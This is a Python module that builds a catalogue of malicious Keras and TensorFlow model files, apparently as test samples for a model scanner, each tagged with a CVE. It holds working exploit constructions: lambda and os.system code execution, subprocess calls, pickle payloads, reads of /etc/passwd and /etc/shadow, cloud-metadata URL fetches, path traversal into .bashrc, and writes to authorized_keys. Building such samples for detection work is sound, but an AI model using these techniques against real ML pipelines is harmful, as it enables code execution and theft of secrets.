"""Malicious Keras files (.keras, HDF5, JSON, YAML) and TensorFlow graphs (SavedModel, frozen).

The .keras layout is that of `keras/src/saving/saving_lib.py`; TensorFlow protobuf field numbers are those of
`saved_model.proto`, `meta_graph.proto`, `graph.proto`, `node_def.proto`, `function.proto`.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .assembler import PYTHON, SHELL, evil
from .sample import Sample, write_bytes
from .zipcraft import Member, archive

SYSTEM = "__import__('os').system('touch \"$VIOLET_MARKER\"')"


def _lambda_code() -> str:
    function = compile(f"lambda x: ({PYTHON}, x)[1]", "layer.py", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(function)).decode()


def _layer(cls: str, config: dict[str, Any], module: str = "keras.layers", **more: Any) -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None, **more}


_INPUT = _layer("InputLayer", {"batch_shape": [None, 1], "dtype": "float32", "name": "input"})


def _lambda_layer(**more: Any) -> dict[str, Any]:
    function = {"class_name": "__lambda__", "config": {"code": _lambda_code(), "defaults": None, "closure": None}}
    return _layer("Lambda", {"name": "scale", "trainable": True, "function": function, "arguments": {}, **more})


def _sequential(*layers: dict[str, Any], **more: Any) -> dict[str, Any]:
    config = {"name": "sequential", "trainable": True, "layers": [_INPUT, *layers], "build_input_shape": [None, 1]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None,
            "build_config": {"input_shape": [None, 1]}, **more}  # fmt: skip


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def _called(module: str, name: str, inputs: Any, **arguments: Any) -> dict[str, Any]:
    """A Lambda over a named function; `inbound_nodes` carries the argument."""
    config = {"name": "call", "function": _function(module, name), "arguments": arguments}
    nodes = [{"args": [], "kwargs": {"inputs": inputs}}]
    return _layer("Lambda", config, name="call", inbound_nodes=nodes, build_config={"input_shape": [None, 1]})


def _functional(*layers: dict[str, Any]) -> dict[str, Any]:
    config = {"name": "model", "trainable": True, "layers": [_INPUT | {"name": "input", "inbound_nodes": []}, *layers],
              "input_layers": [["input", 0, 0]], "output_layers": [["input", 0, 0]]}  # fmt: skip
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
    }


_METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}).encode()


def _empty_weights() -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as weights:
        weights.create_group("layers")
        weights.create_group("vars")
    return buffer.getvalue()


def _keras(config: Any, *extra: Member, weights: bytes | None = None) -> bytes:
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    members = [Member(b"metadata.json", _METADATA), Member(b"config.json", text, deflate=True)]
    return archive([*members, Member(b"model.weights.h5", _empty_weights() if weights is None else weights), *extra])


def _h5(config: Any, attribute: str = "model_config", edit: Callable[[Any], None] | None = None) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        file.attrs[attribute] = json.dumps(config)
        file.create_group("model_weights").attrs["layer_names"] = []
        if edit is not None:
            edit(file)
    return buffer.getvalue()


def _legacy_lambda() -> dict[str, Any]:
    config = {"name": "scale", "trainable": True, "dtype": "float32", "function": [_lambda_code() + "\n", None, None],
              "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}  # fmt: skip
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 1], "dtype": "float32", "name": "input"},
    }
    return {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [first, {"class_name": "Lambda", "config": config}]},
    }


def _plain_legacy() -> dict[str, Any]:
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 1], "dtype": "float32", "name": "input"},
    }
    return {"class_name": "Sequential", "config": {"name": "s", "layers": [first]}}


def _external_link(file: Any) -> None:
    import h5py

    file["model_weights"]["kernel"] = h5py.ExternalLink("/etc/shadow.h5", "/secret")


def _external_storage(file: Any) -> None:
    file["model_weights"].create_dataset("kernel", (64,), dtype="u1", external=[("/etc/passwd", 0, 64)])


def _virtual(file: Any) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("../../../etc/other.h5", "kernel", shape=(4,))
    file["model_weights"].create_virtual_dataset("kernel", layout)


def _huge_shape(file: Any) -> None:
    file["model_weights"].create_dataset("kernel", (2**31, 2**20), dtype="f4", chunks=(64, 64))


def _pickled_attribute(file: Any) -> None:
    import numpy as np

    file.attrs["optimizer"] = np.void(evil())


def _object_npz() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\x01\x00" + bytes([len(header), 0]) + header + evil()
    return archive([Member(b"__root__.npy", array)])


_URL = "http://127.0.0.1:9/weights.tar"
_TORCH = base64.b64encode(evil(2)).decode()
_DUPLICATED = json.dumps(_sequential(_lambda_layer())).replace(
    '"class_name": "Lambda"', '"class_name": "Dense", "\\u0063lass_name": "Lambda"'
)
_ESCAPED = (
    json.dumps(_sequential(_lambda_layer()))
    .replace("Lambda", "\\u004c\\u0061mbda")
    .replace("__lambda__", "__\\u006cambda__")
)

_KERAS: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("lambda.keras", "keras/lambda", lambda: _keras(_sequential(_lambda_layer())), "keras", "CVE-2024-3660"),
    ("lambda_nested.keras", "keras/lambda-nested-model", lambda: _keras(_sequential(_sequential(_lambda_layer()))), "keras", "CVE-2024-3660"),
    ("lambda_wrapped.keras", "keras/lambda-in-wrapper", lambda: _keras(_sequential(_layer("TimeDistributed", {"name": "t", "layer": _lambda_layer()}))), "", ""),
    ("lambda_escaped.keras", "keras/lambda-json-escapes", lambda: _keras(_ESCAPED.encode()), "keras", ""),
    ("lambda_duplicate_key.keras", "keras/duplicate-json-key", lambda: _keras(_DUPLICATED.encode()), "keras", ""),
    ("lambda_src_module.keras", "keras/lambda-internal-module", lambda: _keras(_sequential(_lambda_layer() | {"module": "keras.src.layers.core.lambda_layer"})), "keras", ""),
    ("lambda_as_activation.keras", "keras/lambda-as-activation", lambda: _keras(_sequential(_layer("Activation", {"name": "a", "activation": _lambda_layer()["config"]["function"]}))), "", ""),
    ("lambda_as_loss.keras", "keras/lambda-in-compile-config", lambda: _keras(_sequential(compile_config={"optimizer": "adam", "loss": _lambda_layer()["config"]["function"]})), "", ""),
    ("lambda_as_initializer.keras", "keras/lambda-as-initializer", lambda: _keras(_sequential(_layer("Dense", {"name": "d", "units": 1, "kernel_initializer": _lambda_layer()["config"]["function"]}))), "", ""),
    ("lambda_two_configs.keras", "keras/duplicate-config-member", lambda: _keras(_sequential(), Member(b"config.json", json.dumps(_sequential(_lambda_layer())).encode())), "keras", ""),
    ("module_os.keras", "keras/module-os", lambda: _keras(_functional(_called("os", "system", SHELL))), "", "CVE-2025-1550"),
    ("module_builtins.keras", "keras/module-builtins", lambda: _keras(_functional(_called("builtins", "eval", PYTHON))), "", "CVE-2025-1550"),
    ("layer_popen.keras", "keras/class-from-subprocess", lambda: _keras(_functional(_layer("Popen", {"args": ["sh", "-c", SHELL]}, "subprocess", inbound_nodes=[{"args": [["sh"]], "kwargs": {}}]))), "", "CVE-2025-1550"),
    ("layer_function_type.keras", "keras/class-from-types", lambda: _keras(_functional(_layer("FunctionType", {"code": _lambda_code()}, "types"))), "", "https://huggingface.co/Catalyzer9867/keras-safe-mode-bypass-poc"),
    ("get_file.keras", "keras/get-file", lambda: _keras(_functional(_called("keras.utils", "get_file", "x", origin=_URL, extract=True, cache_dir="/", cache_subdir="etc"))), "", "CVE-2025-8747"),
    ("get_file_tar.keras", "keras/get-file-extract", lambda: _keras(_functional(_called("keras.src.utils.file_utils", "get_file", _URL, untar=True))), "", "CVE-2025-12060"),
    ("unsafe_switch.keras", "keras/enable-unsafe-deserialization", lambda: _keras(_functional(_called("keras.config", "enable_unsafe_deserialization", 0), _lambda_layer())), "", "CVE-2025-9906"),
    ("unsafe_attribute.keras", "keras/set-global-attribute", lambda: _keras(_functional(_called("keras.src.backend.common.global_state", "set_global_attribute", "safe_mode_saving", value=False))), "", "CVE-2025-9906"),
    ("nested_load.keras", "keras/load-model-call", lambda: _keras(_functional(_called("keras.models", "load_model", "/tmp/other.keras", safe_mode=False))), "", "CVE-2025-8747"),
    ("plot_gallery.keras", "keras/public-function-writes-file", lambda: _keras(_sequential(_sequential(_called("keras.visualization", "plot_image_gallery", [[0]], path="/root/.bashrc")))), "", "https://huggingface.co/pragnyanramtha/keras-native-safe-mode-public-function-modelscan-bypass"),
    ("vocabulary_file.keras", "keras/vocabulary-file", lambda: _keras(_sequential(_layer("StringLookup", {"name": "v", "vocabulary": "/etc/passwd", "output_mode": "int"}))), "", "CVE-2025-12058"),
    ("vocabulary_url.keras", "keras/vocabulary-url", lambda: _keras(_sequential(_layer("IntegerLookup", {"name": "v", "vocabulary": "http://169.254.169.254/latest/meta-data/"}))), "", "CVE-2025-12058"),
    ("vocabulary_vectorizer.keras", "keras/vectorizer-vocabulary", lambda: _keras(_sequential(_layer("TextVectorization", {"name": "v", "vocabulary": "gs://bucket/../secret", "standardize": "lower"}))), "", "CVE-2025-12058"),
    ("torch_wrapper.keras", "keras/torch-module-wrapper", lambda: _keras(_sequential(_layer("TorchModuleWrapper", {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": _TORCH}}}))), "", "CVE-2025-49655"),
    ("tfsm_layer.keras", "keras/tfsm-layer", lambda: _keras(_sequential(_layer("TFSMLayer", {"name": "t", "filepath": "/tmp/evil_saved_model", "call_endpoint": "serve"}))), "", "CVE-2026-1462"),
    ("registered_name.keras", "keras/registered-custom-class", lambda: _keras(_sequential(_layer("Backdoor", {"name": "b"}, "attacker_package.layers", registered_name="Custom>Backdoor"))), "", "https://huggingface.co/Anh1hoa/keras-vulnerability-poc"),
    ("weights_external.keras", "keras/weights-external-link", lambda: _keras(_sequential(), weights=_h5({}, edit=_external_link)), "", "CVE-2026-1669"),
    ("weights_npz.keras", "keras/weights-npz-object", lambda: _keras(_sequential(), Member(b"model.weights.npz", _object_npz())), "", ""),
    ("weights_pickle.keras", "keras/weights-are-a-pickle", lambda: _keras(_sequential(), weights=evil()), "", ""),
    ("asset_traversal.keras", "keras/asset-path-traversal", lambda: _keras(_sequential(), Member(b"assets/../../../root/.bashrc", b"x")), "", ""),
    ("extra_python.keras", "keras/python-member", lambda: _keras(_sequential(), Member(b"custom_objects.py", f"import os\nos.system({SHELL!r})\n".encode())), "", ""),
    ("config_missing.keras", "keras/config-missing", lambda: archive([Member(b"metadata.json", _METADATA), Member(b"weights.pkl", evil())]), "", ""),
    ("config_broken.keras", "keras/config-broken", lambda: _keras(json.dumps(_sequential(_lambda_layer())).encode()[:-20]), "", ""),
    ("lambda.h5", "keras-h5/lambda", lambda: _h5(_legacy_lambda()), "keras", "CVE-2025-9905"),
    ("lambda_safe.hdf5", "keras-h5/lambda-ignores-safe-mode", lambda: _h5(_legacy_lambda()), "", "CVE-2025-9905"),
    ("lambda_attribute_bytes.h5", "keras-h5/config-as-bytes", lambda: _h5({}, edit=lambda file: file.attrs.__setitem__("model_config", json.dumps(_legacy_lambda()).encode())), "keras", ""),
    ("lambda_in_training.h5", "keras-h5/lambda-in-training-config", lambda: _h5(_legacy_lambda()["config"]["layers"][1], "training_config", lambda file: file.attrs.__setitem__("model_config", json.dumps(_plain_legacy()))), "", ""),
    ("user_block.h5", "keras-h5/user-block", lambda: _user_block(), "", ""),
    ("external_link.h5", "keras-h5/external-link", lambda: _h5(_plain_legacy(), edit=_external_link), "", "CVE-2026-1669"),
    ("external_storage.h5", "keras-h5/external-storage", lambda: _h5(_plain_legacy(), edit=_external_storage), "", "CVE-2026-1669"),
    ("virtual_dataset.h5", "keras-h5/virtual-dataset", lambda: _h5(_plain_legacy(), edit=_virtual), "", "CVE-2026-1669"),
    ("huge_shape.h5", "keras-h5/shape-bomb", lambda: _h5(_plain_legacy(), edit=_huge_shape), "", "CVE-2026-0897"),
    ("pickled_attribute.h5", "keras-h5/pickle-in-attribute", lambda: _h5(_plain_legacy(), edit=_pickled_attribute), "", ""),
    ("architecture.json", "keras/architecture-json", lambda: json.dumps(_sequential(_lambda_layer())).encode(), "", "CVE-2024-3660"),
    ("architecture.yaml", "keras/architecture-yaml", lambda: b"backend: tensorflow\nclass_name: Sequential\nconfig: !!python/object/apply:os.system ['id']\n", "", "CVE-2021-37678"),
]  # fmt: skip


def _user_block() -> bytes:
    """HDF5 allows arbitrary bytes before the signature at 512, 1024, ...: here a script."""
    script = f"#!/bin/sh\n{SHELL}\nexit 0\n".encode()
    return script.ljust(512, b"\n") + _h5(_plain_legacy())


def _varint(number: int) -> bytes:
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def _field(number: int, content: bytes | str | int) -> bytes:
    if isinstance(content, int):
        return _varint(number << 3) + _varint(content)
    data = content.encode() if isinstance(content, str) else content
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _op(op: str, name: str = "", **attributes: str) -> bytes:
    node = _field(1, name or op.lower()) + _field(2, op)
    for key, text in attributes.items():
        node += _field(5, _field(1, key) + _field(2, _field(2, text)))
    return node


def _graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    library = b"".join(_field(1, function) for function in functions)
    return b"".join(_field(1, node) for node in nodes) + (_field(2, library) if library else b"")


def _saved(graph: bytes) -> bytes:
    info = _field(4, "serve") + _field(5, "2.17.0")
    return _field(1, 1) + _field(2, _field(1, info) + _field(2, graph))


def _constant(text: str) -> bytes:
    tensor = _field(1, 7) + _field(2, b"") + _field(8, text)
    return _field(1, "path") + _field(2, "Const") + _field(5, _field(1, "value") + _field(2, _field(8, tensor)))


def _function_def(*nodes: bytes) -> bytes:
    return _field(1, _field(1, "__inference_serve")) + b"".join(_field(3, node) for node in nodes)


def _saved_model(name: str, graph: bytes, extra: dict[str, bytes] | None = None) -> Callable[[Path], Path]:
    def build(directory: Path) -> Path:
        folder = directory / name
        (folder / "variables").mkdir(parents=True)
        (folder / "assets").mkdir()
        (folder / "saved_model.pb").write_bytes(_saved(graph))
        for path, data in (extra or {}).items():
            (folder / path).write_bytes(data)
        return folder

    return build


_PLACEHOLDER = _op("Placeholder", "x")
_CERTAIN = ["ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless", "MatchingFiles"]


def _tensorflow() -> list[Sample]:
    samples = []
    for op in _CERTAIN:
        name = f"saved_{op.lower()}"
        graph = _graph(_constant("/etc/passwd"), _op(op), _PLACEHOLDER)
        samples.append(Sample(name, f"savedmodel/{op.lower()}", True, False, _saved_model(name, graph)))
    inner = _graph(_PLACEHOLDER, functions=(_function_def(_constant("/root/.ssh/authorized_keys"), _op("WriteFile")),))
    printed = _graph(_op("PrintV2", output_stream="file:///root/.bashrc"))
    debug = _graph(_op("DebugIdentityV3", debug_urls="grpc://10.0.0.1:6009"))
    metadata = _field(1, _field(2, "root") + _field(5, json.dumps(_lambda_layer())))
    special: list[tuple[str, str, bytes, dict[str, bytes]]] = [
        ("saved_in_function", "savedmodel/op-in-function-library", inner, {}),
        ("saved_print_file", "savedmodel/print-to-file", printed, {}),
        ("saved_debug_url", "savedmodel/debug-url", debug, {}),
        ("saved_keras_metadata", "savedmodel/keras-metadata-lambda", _graph(_PLACEHOLDER), {"keras_metadata.pb": metadata}),
        ("saved_pickle_asset", "savedmodel/pickle-asset", _graph(_PLACEHOLDER), {"assets/tokenizer.pkl": evil()}),
        ("saved_library_asset", "savedmodel/native-library", _graph(_PLACEHOLDER), {"assets/custom_op.so": b"\x7fELF\x02\x01\x01" + bytes(57)}),
        ("saved_custom_op", "savedmodel/unknown-op", _graph(_op("AttackerShellExecute", command="id")), {}),
    ]  # fmt: skip
    for name, technique, graph, extra in special:
        samples.append(Sample(name, technique, True, False, _saved_model(name, graph, extra)))
    files: list[tuple[str, str, Callable[[], bytes]]] = [
        ("frozen.pb", "tensorflow/frozen-graph", lambda: _graph(_constant("/etc/passwd"), _op("ReadFile"))),
        ("frozen_pyfunc.pb", "tensorflow/frozen-pyfunc", lambda: _graph(_op("PyFunc", token="pyfunc_0"), _PLACEHOLDER)),
        ("graph.pbtxt", "tensorflow/text-graph", lambda: b'node { name: "r" op: "ReadFile" input: "path" }\nversions { producer: 1395 }\n'),
        ("graph.meta", "tensorflow/meta-graph", lambda: _field(1, _field(4, "serve")) + _field(2, _graph(_op("WriteFile")))),
        ("truncated.pb", "tensorflow/truncated", lambda: _saved(_graph(_op("WriteFile")))[:-6]),
        ("huge_length.pb", "tensorflow/length-lie", lambda: _field(1, 1) + _varint(2 << 3 | 2) + _varint(2**40) + _graph(_op("ReadFile"))),
        ("deep.pb", "tensorflow/nesting", lambda: _nested(3000)),
    ]  # fmt: skip
    samples += [Sample(name, technique, True, False, write_bytes(name, content)) for name, technique, content in files]
    return samples


def _nested(depth: int) -> bytes:
    """An attribute holding a function holding an attribute..., deeper than a recursive reader survives."""
    data = b""
    for _ in range(depth):
        data = _field(10, _field(1, "f") + _field(2, _field(1, "k") + _field(2, data)))
    return _graph(_field(1, "n") + _field(2, "PartitionedCall") + _field(5, _field(1, "f") + _field(2, data)))


def _keras_sample(name: str, technique: str, content: Callable[[], bytes], loader: str, source: str) -> Sample:
    """Keras needs a backend that the test environment lacks: the loader is tried where one exists."""
    prefixed = name if "keras" in name or name.endswith(("h5", "hdf5")) else f"keras_{name}"
    return Sample(prefixed, technique, True, False, write_bytes(prefixed, content), loader, ("h5py",), source)


SAMPLES = (*(_keras_sample(*row) for row in _KERAS), *_tensorflow())
